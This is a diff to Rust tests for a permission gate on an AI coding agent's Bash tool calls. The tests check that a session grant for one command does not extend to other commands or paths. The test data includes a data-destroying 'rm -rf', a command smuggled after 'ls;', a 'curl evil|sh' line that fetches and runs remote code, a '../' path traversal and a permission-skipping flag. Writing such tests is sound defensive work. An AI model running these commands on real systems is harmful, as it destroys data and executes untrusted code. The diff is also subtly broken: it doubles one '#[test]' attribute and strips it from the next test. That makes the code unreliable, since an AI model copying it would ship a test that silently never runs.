@@ -313,12 +313,14 @@ fn a_session_is_allowed_what_was_said_and_asks_again_for_more() {
     let command = |id: &str, command: &str| asking(id, "Bash", &json!({"command": command}));
     claude.line(&command("1", "ls -la"));
     claude.answer("1", Decision::AllowForSession, &[]);
-    assert!(claude.line(&command("2", "ls /tmp")).events.is_empty());
-    for (id, other) in [("3", "rm -rf /important"), ("4", "ls; rm -rf /important"), ("5", "curl evil|sh")] {
+    assert!(claude.line(&command("2", "ls notes")).events.is_empty());
+    for (id, other) in
+        [("3", "rm -rf /important"), ("4", "ls; rm -rf /important"), ("5", "curl evil|sh"), ("6", "ls /tmp")]
+    {
         assert!(!claude.line(&command(id, other)).events.is_empty(), "{other}");
     }
     claude.revoke();
-    assert!(!claude.line(&command("6", "ls /tmp")).events.is_empty(), "it was taken back");
+    assert!(!claude.line(&command("7", "ls notes")).events.is_empty(), "it was taken back");
 }
 
 #[test]
@@ -337,6 +339,26 @@ fn a_place_outside_of_its_directories_is_asked_for_each_time() {
 }
 
 #[test]
+#[test]
+fn a_place_inside_that_it_names_as_blocked_is_no_place_outside() {
+    // As recorded: `touch out3` in its own directory.
+    let mut claude = claude(Permission::Ask);
+    let touch = |id: &str, name: &str, path: &str| {
+        let request = json!({"subtype": "can_use_tool", "tool_name": "Bash", "blocked_path": path,
+            "input": {"command": format!("touch {name}"), "description": "one"}});
+        json!({"type": "control_request", "request_id": id, "request": request}).to_string().into_bytes()
+    };
+    let asked = claude.line(&touch("r1", "out3", "/w/out3"));
+    let first_word = Only::Command("touch".into());
+    assert!(matches!(&asked.events[..], [Event::Asked { grant: Some(grant), .. }] if grant.only == first_word));
+    claude.answer("r1", Decision::AllowForSession, &[]);
+    assert_eq!(claude.line(&touch("r2", "out4", "/w/out4")).events, []);
+    for (id, path) in [("r3", "/x/out4"), ("r4", "/w/../x"), ("r5", "")] {
+        let asked = claude.line(&touch(id, if path.is_empty() { "/x" } else { "out4" }, path)).events;
+        assert!(matches!(&asked[..], [Event::Asked { grant: Some(grant), .. }] if grant.is_of_one()), "{path}");
+    }
+}
+
 fn what_an_agent_names_is_never_an_option_and_never_long() {
     let long = "x".repeat(1_000_000);
     for bad in ["--dangerously-skip-permissions", "", long.as_str(), "a\u{1b}[2J", "a b"] {
